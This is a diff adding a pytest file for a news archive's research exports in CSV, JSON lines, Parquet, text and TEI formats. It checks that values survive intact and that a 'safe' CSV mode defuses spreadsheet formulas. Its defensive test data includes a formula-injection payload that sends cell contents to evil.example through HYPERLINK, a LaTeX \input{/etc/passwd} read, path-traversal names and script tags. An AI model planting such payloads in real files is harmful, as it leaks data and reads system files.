@@ -1,0 +1,275 @@
+"""What is in the tables and texts of an export is what is in the archive, whatever the page had printed."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from dataclasses import replace
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import polars
+import pytest
+from archive.conftest import Newsroom
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from lxml import etree
+from research.gazette import AUTHORS, Press, article
+
+from crawler.archive import Archive
+from crawler.archive.frames import COLUMNS
+from crawler.archive.rows import ArticleRow
+from crawler.archive.selection import Selection
+from crawler.dedup import digest
+from crawler.research.exports import Options, export
+from crawler.research.exports.plain_text import file_name, text_of
+from crawler.research.exports.streams import Stream
+from crawler.research.exports.tabular import cells, csv_rows
+from crawler.research.exports.tei import document
+from crawler.research.exports.texts import name_part, sound, without_formula, xml_text
+
+NOW = datetime(2026, 11, 24, 23, 0, 0, tzinfo=UTC)
+TEI = {"t": "http://www.tei-c.org/ns/1.0"}
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"prize")',
+    "+1+1", "-2+3", "@SUM(1+9)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "\n@cmd", "a;=1+1;b", 'a",=1+1,"b', 'a;"=1+1";b', "- one\n- two",
+    "bell\x07 escape\x1b[2J nul\x00 end", "line\nbreak\r\nand\rreturn", "two\u2028lines\u2029", "\ufeffmark \ufffe\uffff",
+    "<script>alert(1)</script>&amp;]]>", "}{\\input{/etc/passwd}%", "TY  - JOUR\nER  - ", "עברית \u202edrow\u202c", "😀𠮷",
+    "m" * 1_000_000, "../../etc/passwd", "CON", " ", "'quoted'",
+)  # fmt: skip
+"""Headlines, bylines, kickers, leads of a page that means ill, or was typed carelessly."""
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """An archive whose articles hold each of these everywhere."""
+    path = tmp_path_factory.mktemp("hostile") / "archive.db"
+    press = Press(path)
+    for number, text in enumerate(HOSTILE):
+        made = article(press.room, number, "en")
+        author = replace(AUTHORS["en"][0], name=text, sort_name=text, printed=text)
+        made = replace(
+            made, headline=text, byline=text, lead=text, kicker=text, dateline=text, dateline_place=text,
+            body=f"{text}\n\nThe end.", authors=(author,), dateline_agencies=(text,),
+        )  # fmt: skip
+        press.print(replace(made, digest=digest(text, text, text, made.body, "en")))
+    press.close()
+    return path
+
+
+@pytest.fixture
+def make(hostile, tmp_path):
+    def call(format_, *, name="out", **options):
+        with Archive(hostile) as archive:
+            export(archive, Selection(), format_, tmp_path / name, made_at=NOW, options=Options(**options))
+            return tmp_path / name, list(archive.articles())
+
+    return call
+
+
+def read_csv(path, encoding="utf-8"):
+    text = path.read_bytes().decode(encoding)
+    csv.field_size_limit(10_000_000)
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_gives_every_value_back_and_is_rfc_4180(make):
+    to, rows = make("csv")
+    assert [list(each.values()) for each in read_csv(to)] == [cells(row) for row in rows]
+    assert list(read_csv(to)[0]) == list(COLUMNS)
+    header = to.read_bytes().partition(b"\r\n")[0]
+    assert header.decode() == ",".join(COLUMNS)
+    assert [each["headline"] for each in read_csv(to)] == list(HOSTILE)
+    for each, row in zip(read_csv(to), rows, strict=True):
+        assert json.loads(each["authors"]) == [author.name for author in row.authors]
+        assert json.loads(each["dateline_agencies"]) == list(row.dateline_agencies)
+        assert (each["complete"], each["story"]) == ("true", row.story)
+
+
+def test_a_byte_order_mark_only_when_it_is_asked_for(make):
+    assert not make("csv")[0].read_bytes().startswith(b"\xef\xbb\xbf")
+    marked, _ = make("csv", name="marked", bom=True)
+    assert marked.read_bytes().startswith(b"\xef\xbb\xbfid,")
+    assert len(read_csv(marked, "utf-8-sig")) == len(HOSTILE)
+
+
+def test_safe_cells_are_no_formulas_wherever_a_program_parts_them(make):
+    to, rows = make("csv", safe=True)
+    for each, row in zip(read_csv(to), rows, strict=True):
+        for name, cell in each.items():
+            assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell), (name, cell)
+            assert cell.replace("'", "") == cells(row, [name])[0].replace("'", "")  # nothing else is changed
+
+
+@pytest.mark.parametrize("separator", [";", "\t"])
+def test_safe_cells_are_no_formulas_in_a_program_with_another_separator(separator, make):
+    to, _ = make("csv", safe=True)
+    text = to.read_bytes().decode()
+    csv.field_size_limit(10_000_000)
+    formula = re.compile(r"\s*[=+\-@＝＋－＠]")
+    read = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+    split = [cell for line in re.split(r"[\r\n]", text) for cell in line.split(separator)]  # one that knows no quotes
+    assert len(split) > len(HOSTILE)
+    for cell in (*read, *split):
+        assert not formula.match(cell), cell[:80]
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t1", "\r1", "\n1", " =1", "＝1", "－1"])
+def test_what_begins_like_a_formula_gets_an_apostrophe(text):
+    assert without_formula(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["", "a=1", "1-2", "'=1", '"=1"', "日本", "2022-03-11", "["])
+def test_what_does_not_stays(text):
+    assert without_formula(text) == text
+
+
+def test_json_lines_are_the_articles(make):
+    to, rows = make("jsonl")
+    lines = to.read_bytes().decode().split("\n")
+    assert lines.pop() == ""
+    assert len(lines) == len(rows)
+    for line, row in zip(lines, rows, strict=True):
+        told = json.loads(line)
+        assert told["headline"] == row.headline
+        assert list(told) == [field.name for field in ArticleRow.__dataclass_fields__.values()]
+        assert told["authors"][0]["printed"] == row.authors[0].printed
+
+
+def test_parquet_has_types_years_and_lists(make, tmp_path):
+    to, rows = make("parquet")
+    read = polars.read_parquet(to / "**/*.parquet", hive_partitioning=True).sort("id")
+    assert read["headline"].to_list() == list(HOSTILE)
+    assert read["authors"].to_list() == [[row.authors[0].name] for row in rows]
+    assert read["author_details"].to_list()[0][0]["kind"] == "person"
+    assert read.schema["published_on"] == polars.Date
+    assert read.schema["first_seen_at"] == polars.Datetime("us", "UTC")
+    assert read.schema["complete"] == polars.Boolean
+    assert read["published_on"].to_list() == [row.published_on and date.fromisoformat(row.published_on) for row in rows]
+    assert read["published_at"].null_count() == len(rows)  # no page of these tells the hour
+    assert read["year"].to_list() == [row.published_on and int(row.published_on[:4]) for row in rows]
+    assert {each.parent.name for each in to.rglob("*.parquet")} == {
+        *(f"year={year}" for year in range(2010, 2014)), "year=__HIVE_DEFAULT_PARTITION__", "year=2014",
+    }  # fmt: skip
+
+
+def test_texts_are_named_after_their_articles_and_listed(make):
+    to, rows = make("text", safe=True)
+    listed = {each["file"]: each for each in read_csv(to / "metadata.csv")}
+    assert sorted(listed) == sorted(each.name for each in (to / "texts").iterdir())
+    for row in rows:
+        name = file_name(row, "txt")
+        assert re.fullmatch(r"[a-z0-9_-]+\.txt", name)
+        assert (to / "texts" / name).read_bytes().decode() == text_of(row)
+        assert listed[name]["site_key"] == row.site_key
+        assert "body" not in listed[name]
+    assert text_of(rows[1]) == "+1+1\n\n+1+1\n\n+1+1\n\nThe end.\n"
+
+
+def test_names_of_files_are_safe_and_differ_where_keys_differ():
+    keys = ["55334", "../../etc/passwd", "a/b", "a\\b", "CON", "con", "A", "a", "\u00e9", "e\u0301", "", ".", "..", "x" * 300,
+            "x" * 301, "\ud800", "a\x00b", "a b", "-rf", "名"]  # fmt: skip
+    names = [name_part(key) for key in keys]
+    assert names[0] == "55334"
+    assert len({name.lower() for name in names}) == len(keys)
+    for name in names:
+        assert re.fullmatch(r"[a-z0-9][a-z0-9_-]{0,40}", name)
+
+
+@pytest.mark.parametrize("split", [False, True])
+def test_tei_is_well_formed_and_reads_back(make, split):
+    to, rows = make("tei", split=split)
+    if split:
+        listed = {each["file"]: int(each["id"]) for each in read_csv(to / "metadata.csv")}
+        documents = {
+            listed[path.name]: etree.parse(path, etree.XMLParser(huge_tree=True)).getroot()
+            for path in (to / "tei").iterdir()
+        }
+    else:
+        corpus = etree.parse(to, etree.XMLParser(huge_tree=True)).getroot()
+        documents = {
+            int(each.get("{http://www.w3.org/XML/1998/namespace}id").removeprefix("article-")): each
+            for each in corpus.findall("t:TEI", TEI)
+        }
+    assert len(documents) == len(rows)
+    for row in rows:
+        assert_same(documents[row.id], row)
+
+
+def assert_same(root, row):
+    paragraphs = ["".join(each.itertext()) for each in root.findall("t:text/t:body/t:div/t:p", TEI)]
+    assert "\n\n".join(paragraphs) == xml_text(row.body)
+    assert root.findtext("t:text/t:body/t:div/t:head", None, TEI) == xml_text(row.headline)
+    assert root.findtext(".//t:sourceDesc/t:bibl/t:title", None, TEI) == xml_text(row.headline)
+    assert root.findtext("t:text/t:body/t:div/t:argument/t:p", None, TEI) == (row.lead and xml_text(row.lead))
+    assert root.findtext(".//t:keywords/t:term", None, TEI) == (row.kicker and xml_text(row.kicker))
+
+
+ANY = st.text(
+    st.characters(codec=None, categories=("L", "N", "P", "Z", "C", "S"), include_characters="\ud800\x00\x0b\ufffe"),
+    max_size=40,
+)
+
+
+def a_row(headline, lead, body):
+    """A row as the archive might hand it over, with texts of any kind."""
+    made = Newsroom().article(7)
+    fields = {name: getattr(made, name, None) for name in ArticleRow.__dataclass_fields__}
+    return ArticleRow(
+        **fields | {
+            "id": 7, "headline": headline, "lead": lead or None, "body": body, "published_at": "2022-03-11", "published_on": "2022-03-11",
+            "published_precision": "day", "published_raw": headline, "published_guessed": False, "modified_at": None, "modified_raw": None,
+            "first_seen_at": "2026-03-01T12:00:00Z", "last_seen_at": "2026-03-01T12:00:00Z", "revisions": 1, "status": "live", "authors": (),
+        }
+    )  # fmt: skip
+
+
+@settings(max_examples=60, deadline=None)
+@given(ANY, ANY, ANY)
+def test_any_text_survives_csv_text_and_tei(headline, lead, body):
+    row = a_row(headline, lead, body)
+    for safe in (False, True):
+        buffer = io.BytesIO()
+        csv_rows(Stream(buffer, "-"), safe=safe, bom=False)(cells(row))
+        (read,) = csv.reader(io.StringIO(buffer.getvalue().decode(), newline=""))
+        assert read == [sound(without_formula(cell) if safe else cell) for cell in cells(row)]
+    stream = Stream(io.BytesIO(), "-")
+    stream.write_text(text_of(row))
+    assert stream.written.bytes == len(sound(text_of(row)).encode())
+    assert_same(etree.fromstring(etree.tostring(document(row, headline), encoding="utf-8")), row)
+
+
+def test_what_xml_cannot_hold_is_replaced_and_the_rest_is_not():
+    assert xml_text("a\x00b\x0b\ud800\ufffe\tc\n\r") == "a\ufffdb\ufffd\ufffd\ufffd\tc\n\r"
+    every = "".join(chr(each) for each in range(0x110000))
+    kept = etree.fromstring(etree.tostring(_element(xml_text(every)), encoding="utf-8")).text
+    assert kept == xml_text(every)
+    assert sum(a != b for a, b in zip(every, kept, strict=True)) == 29 + 2048 + 2
+
+
+def _element(text):
+    made = etree.Element("p")
+    made.text = text
+    return made
+
+
+def test_a_data_package_describes_every_column_in_the_words_of_the_archive(make):
+    for format_, options in (("text", {}), ("tei", {"split": True}), ("parquet", {})):
+        to, _ = make(format_, name=f"out-{format_}", **options)
+        told = json.loads((to / "datapackage.json").read_text(encoding="utf-8"))
+        for resource in told["resources"]:
+            place = to / resource["path"]
+            schema = (
+                resource["schema"]
+                if isinstance(resource["schema"], dict)
+                else json.loads((to / resource["schema"]).read_text())
+            )
+            names = [field["name"] for field in schema["fields"]]
+            assert all(field["description"] for field in schema["fields"])
+            if place.suffix == ".csv":
+                assert names == list(read_csv(place)[0])
+            else:
+                assert names == list(polars.read_parquet_schema(place))
+        assert Path(to / "manifest.json").exists()
